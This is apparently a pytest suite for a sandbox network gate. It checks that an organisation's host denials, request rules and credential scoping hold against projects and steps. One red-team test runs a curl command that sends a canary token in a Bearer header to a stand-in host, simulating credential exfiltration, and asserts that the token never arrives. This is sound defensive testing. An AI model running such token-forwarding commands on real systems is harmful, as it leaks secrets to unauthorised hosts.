"""Issue 16: requests through the real gate under an organisation policy (as root: the gate's
judgement does not depend on the step's uid). The stub server's request log is the oracle: what the organisation denies
never reaches it, however the project or the step spells it; nor does the org's credential
reach a host the org did not name."""

import json
import os
import shutil
import tempfile
from pathlib import Path

import pytest

from conftest import CANARY
from gatekit import hostport, netproject, servers

pytestmark = [
    pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed"),
    pytest.mark.skipif(os.path.lexists("/etc/envgit/policy.yaml") or os.geteuid() != 0,
                       reason="needs root (the org file must be root's) and no real "
                              "/etc/envgit/policy.yaml"),
]

CURL = "curl -s --max-time 20 -o /dev/null -w '%{http_code}\\n'"


@pytest.fixture
def world(attacker):
    d = tempfile.mkdtemp(prefix="envgit-org-")
    os.chmod(d, 0o755)
    with servers() as (git, stub):
        attacker.stop()
        attacker.env["ENVGIT_RESOLVE"] = ",".join(f"{n}=127.0.0.1" for n in stub.names)
        attacker.env["ENVGIT_UPSTREAM_CA"] = str(git.ca.cert_path)
        yield attacker, stub, Path(d) / "policy.yaml"
        attacker.stop()
    shutil.rmtree(d, ignore_errors=True)


def install_org(attacker, path, text):
    path.write_text(text)
    path.chmod(0o644)
    attacker.stop()
    attacker.env["ENVGIT_ORG_POLICY"] = str(path)


def hosts_reached(stub):
    return sorted({q["headers"].get("host", "").split(":")[0] for q in stub.requests})


def test_a_host_the_org_denies_is_never_reached(world):
    attacker, stub, org = world
    stub_hp, gql_hp = hostport(stub, "stub.example.test"), hostport(stub, "gql.example.test")
    attacker.write_policy(f'version: 1\nnetwork:\n  allow: ["{stub_hp}", "{gql_hp}"]\n')
    script = f"{CURL} https://{stub_hp}/a\n{CURL} https://{gql_hp}/b\necho done\n"
    # the control: without the organisation, both land
    r = attacker.run(script, timeout=120)
    assert hosts_reached(stub) == ["gql.example.test", "stub.example.test"], r.stdout + r.stderr
    stub.requests.clear()
    # the organisation denies gql: the project that allows it runs nothing, naming both files
    install_org(attacker, org, "version: 1\nnetwork:\n  deny:\n    - gql.example.test\n")
    r = attacker.run(script, timeout=120)
    assert "done" not in r.stdout and stub.requests == [], (r.stdout, stub.requests)
    assert f"network.allow adds {gql_hp}, which {org}:4 denies" in r.stderr, r.stderr
    # the organisation grants both hosts itself and still denies gql: a step that tries every
    # spelling of it is refused at the gate, the other host is reached
    install_org(attacker, org, f'version: 1\nnetwork:\n  allow: ["{stub_hp}", "{gql_hp}"]\n'
                               "  deny:\n    - gql.example.test\n")
    attacker.write_policy("version: 1\n")
    port = gql_hp.rsplit(":", 1)[1]
    spellings = [f"gql.example.test:{port}", f"GQL.Example.Test:{port}", f"gql.example.test.:{port}"]
    r = attacker.run(f"{CURL} https://{stub_hp}/ok\n" +
                     "".join(f"{CURL} https://{s}/x\n" for s in spellings) + "echo done\n", timeout=180)
    assert "done" in r.stdout, r.stdout + r.stderr
    assert hosts_reached(stub) == ["stub.example.test"], (r.stdout, stub.requests)


def test_the_orgs_request_rules_come_first(world):
    """The organisation denies POSTs to stub; the project's own allow-and-mark rule for one
    path of it comes after the org's rules, so the org's deny decides; the project's `deny` of
    another host the org grants (a tightening) holds."""
    attacker, stub, org = world
    stub_hp, gql_hp = hostport(stub, "stub.example.test"), hostport(stub, "gql.example.test")
    install_org(attacker, org, f'version: 1\nnetwork:\n  allow: ["{stub_hp}", "{gql_hp}"]\n'
                               "irreversible:\n  - net: {host: stub.example.test, method: POST}\n"
                               "    action: deny\n")
    attacker.write_policy("version: 1\nnetwork:\n  deny: [gql.example.test]\nirreversible:\n"
                          "  - net: {host: stub.example.test, method: POST, path: /hook}\n"
                          "    action: allow\n")
    r = attacker.run(f"{CURL} -X POST -d x https://{stub_hp}/hook\n{CURL} https://{stub_hp}/get\n"
                     f"{CURL} https://{gql_hp}/q\necho done\n", timeout=120)
    assert "done" in r.stdout, r.stdout + r.stderr
    assert [(q["method"], q["path"]) for q in stub.requests] == [("GET", "/get")], stub.requests


def test_the_orgs_credential_source_is_not_sent_to_a_host_the_org_did_not_name(attacker):
    """The red team's case (round 16): the organisation defines a credential (`gh`: the real
    value of $MY_TOKEN, sent only to the org's git host). A project may not redefine `gh`, but
    it defined its own credential `mine` over the same source (`from: {env: MY_TOKEN}`) for
    another host it allows: the org's token went where the org never said. The merge
    (policy/org.py) refused only a redefinition of the name, a source the org's
    env.deny/deny_read covers, or a host its network.deny names. The oracle: the second server
    (the stub) receives the real token (the canary)."""
    with servers() as (git, stub):
        d = tempfile.mkdtemp(prefix="envgit-org-")
        os.chmod(d, 0o755)
        org = Path(d) / "policy.yaml"
        org.write_text("version: 1\ncredentials:\n  gh:\n    from: {env: MY_TOKEN}\n"
                       f"    hosts: [\"{hostport(git)}\"]\n")
        org.chmod(0o644)
        try:
            attacker.env["MY_TOKEN"] = CANARY
            attacker.env["ENVGIT_ORG_POLICY"] = str(org)
            hp = hostport(stub, "stub.example.test")
            netproject(attacker, git, stub, "irreversible: []\n"
                       f"credentials:\n  mine:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hp}\"]\n",
                       trust=False)                # refused at load: nothing to approve
            r = attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" https://{hp}/x; "
                             "echo ran")
            assert "ran" in r.stdout or r.returncode == 125, r.stdout + r.stderr
            got = [q for q in stub.requests if CANARY in json.dumps({k: v for k, v in q.items() if k != "body"})]
            assert not got, ("the org's credential gh (its source MY_TOKEN, for "
                             f"{hostport(git)} only) reached {hp} through the project's credential "
                             f"'mine': {got[:1]}")
        finally:
            attacker.stop()
            shutil.rmtree(d, ignore_errors=True)
